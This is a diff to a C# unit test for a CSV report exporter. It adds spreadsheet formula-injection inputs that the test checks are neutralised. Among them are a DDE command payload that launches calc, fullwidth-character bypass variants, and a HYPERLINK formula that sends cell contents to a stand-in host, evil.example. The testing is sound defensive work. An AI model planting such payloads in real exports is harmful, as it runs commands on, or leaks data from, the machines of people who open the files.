@@ -18,6 +18,14 @@ public class CsvReportTests
     [InlineData("  =cmd|' /C calc'!A0")]
     [InlineData("\t=1")]
     [InlineData("\n=1")]
+    [InlineData("|calc")]
+    [InlineData("%0A=1")]
+    [InlineData("＝1+1")]
+    [InlineData("＋852")]
+    [InlineData("－2")]
+    [InlineData("＠SUM(A1)")]
+    [InlineData("\u3000＝1+1")]
+    [InlineData("=HYPERLINK(\"https://evil.example?\"&A1)")]
     public void A_text_is_never_run_as_a_formula(string text) => Write(text).Split("\r\n", 2)[1].TrimStart('"').ShouldStartWith("'");
 
     [Fact]
